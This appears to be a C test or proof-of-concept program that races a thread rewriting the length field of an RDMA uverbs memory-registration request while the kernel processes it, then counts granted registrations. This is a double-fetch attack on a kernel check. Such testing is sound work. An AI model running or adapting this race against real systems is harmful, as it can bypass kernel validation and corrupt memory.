/*
 * Registers and ends MRs by the kernel's own interface, while a thread changes the length in the request from 4096 to BYTES and
 * back, so that the kernel may read another one than the guard has seen.
 *
 *   lengths BYTES
 *
 * Ends after 20,000 requests and prints how many were granted.
 */
#include "raw_uverbs.h"
#include <pthread.h>

enum { tries = 20000, little = 4096 };

static struct ib_uverbs_reg_mr request;
static long much;

static void *changing(void *unused)
{
	volatile __u64 *length = &request.length;

	for (;;) {
		*length = little;
		*length = (__u64)much;
	}
	return unused;
}

int main(int argc, char **argv)
{
	struct ib_uverbs_reg_mr_resp out;
	pthread_t other;
	int fd = open_context(), granted = 0;
	char *buffer;

	much = argc > 1 ? atol(argv[1]) : 0;
	if (fd < 0 || much < little || !(buffer = aligned_alloc(4096, (size_t)(much + 4095) & ~4095UL)))
		return 2;
	memset(buffer, 1, (size_t)much);
	request = (struct ib_uverbs_reg_mr){ .start = (__u64)buffer, .length = little, .hca_va = (__u64)buffer };
	if (alloc_pd(fd, by_ioctl, &request.pd_handle) || pthread_create(&other, NULL, changing, NULL))
		return 2;
	for (int i = 0; i < tries; i++)
		if (!by_ioctl(fd, IB_USER_VERBS_CMD_REG_MR, &request, sizeof request, &out, sizeof out)) {
			granted++;
			if (destroy(fd, UVERBS_OBJECT_MR, UVERBS_METHOD_MR_DESTROY, out.mr_handle))
				return 2;
		}
	printf("granted: %d\n", granted);
	return 0;
}
